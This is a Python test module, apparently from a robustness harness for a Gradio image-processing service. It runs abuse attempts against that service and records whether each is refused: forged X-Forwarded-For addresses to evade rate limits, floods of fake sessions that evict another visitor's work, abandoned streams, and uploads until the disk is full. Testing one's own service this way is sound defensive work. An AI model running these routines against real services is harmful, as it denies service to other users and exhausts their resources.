"""What one visitor does to the others, and to the room that they share."""

from __future__ import annotations

import contextlib
import os
import secrets
import time
from collections.abc import Iterator
from urllib.parse import quote

import httpx
from attacks.target import REFUSED, SURVIVED, THROUGH, Attempt, Page, Target, file_of, png

PAGES = 60
EVENTS = 60
STREAMS = 30
MB = 10**6
LONG = 10.0


def forged_address(target: Target) -> Iterator[Attempt]:
    """Many pages, each from an address of its own, if one believes it."""
    forged = lambda i: f"X-Forwarded-For: 192.0.2.{i + 1}"  # noqa: E731
    with contextlib.ExitStack() as stack:
        pages = [stack.enter_context(target.page(None, forged(i))) for i in range(PAGES)]
    opened = sum(page.status == 200 for page in pages)
    own = any(page.status == 429 for page in pages)
    said = f"{opened} of {PAGES} opened"
    yield Attempt("pages from invented addresses", REFUSED if own else THROUGH, said)


def other_visitors(target: Target) -> Iterator[Attempt]:
    """Taking from a page that is open what it has sent and seen."""
    run = target.event_of("run", "click")
    path = target.upload("victim.png", png((64, 48)))
    with target.page() as victim:
        said = victim.run(run, target.filled(run, orig=file_of(path)))
        if '"success":true' not in said:
            yield Attempt("a run", THROUGH, f"it does not work at all: {said[-200:]}")
            return
        for _ in range(PAGES):
            # One that sends an event, and never was a page.
            Page(target, secrets.token_hex(6), 0).join(run, target.values(run))
        with contextlib.ExitStack() as stack:
            for _ in range(PAGES):
                stack.enter_context(target.page())
        again = victim.run(run, target.filled(run, orig=file_of(path)))
        kept = target.get(f"/gradio_api/file={quote(path)}").status_code == 200
        lost = '"success":true' not in again or not kept
        yield Attempt("a page after 120 others", THROUGH if lost else SURVIVED, again[-80:])


def unread_events(target: Target) -> Iterator[Attempt]:
    """Events of a page that fetches no result."""
    run = target.event_of("run", "click")
    with target.page() as page:
        answers = [page.join(run, target.values(run)).status_code for _ in range(EVENTS)]
    taken = answers.count(200)
    outcome = THROUGH if taken == EVENTS else REFUSED
    yield Attempt(f"{EVENTS} events at once of one page", outcome, f"{taken} were taken")


def figures(target: Target) -> Iterator[Attempt]:
    """Figures of one page, while another client asks something."""
    run = target.event_of("run", "click")
    place = next(e for e in target.events if sorted(target.types(e))[:2] == ["slider", "slider"])
    with target.page() as page:
        page.run(run, target.filled(run, orig=file_of(target.upload("a.png", png()))))
        taken = [page.join(place, target.values(place)).status_code for _ in range(EVENTS)]
        start = time.monotonic()
        with contextlib.suppress(httpx.TimeoutException):
            target.post("/v1/infer", files={"image_orig": ("a.png", png())}, timeout=LONG)
        took = time.monotonic() - start
    outcome = THROUGH if took >= LONG else SURVIVED
    detail = f"{taken.count(200)} of {EVENTS} were taken, the other waited {took:.1f} s"
    yield Attempt("figures of one page", outcome, detail)


def dropped_streams(target: Target) -> Iterator[Attempt]:
    """Answers that nobody waits for any more."""
    form = {"image_orig": ("a.png", png((600, 600)))}
    request = httpx.Request("POST", f"{target.url}/v1/stream", files=form)
    lines = [f"{name}: {value}" for name, value in request.headers.items() if name != "host"]
    target.post("/v1/stream", files=form)  # what the first one compiles is there then
    whole = target.head("POST /v1/stream HTTP/1.1", *lines) + request.read()
    with contextlib.ExitStack() as stack:
        for _ in range(STREAMS):
            stack.enter_context(target.connect()).sendall(whole)
        time.sleep(0.2)
    time.sleep(1)
    health = target.get("/healthz").json()
    left = health["waiting"] + health["streaming"]
    yield Attempt(f"{STREAMS} streams that were left", THROUGH if left else SURVIVED, str(health))


def uploads(target: Target) -> Iterator[Attempt]:
    """Files until the disk is full."""
    sent, answer = 0, None
    while sent < target.upload_mb * MB:
        content = os.urandom(3 * MB // 2)
        answer = target.post("/gradio_api/upload", files={"files": ("a.png", content)})
        if answer.status_code != 200:
            break
        sent += len(content)
    full = sent >= target.upload_mb * MB
    said = f"{sent / MB:.0f} MB were kept; then {answer.text[:80] if answer else ''}"
    yield Attempt("uploads without end", THROUGH if full else REFUSED, said)
    many = 0
    for i in range(600):
        if not target.upload(f"{i}.png", b"%d" % i):
            break
        many += 1
    outcome = THROUGH if many == 600 else REFUSED
    yield Attempt("small uploads without end", outcome, f"{many} were kept")
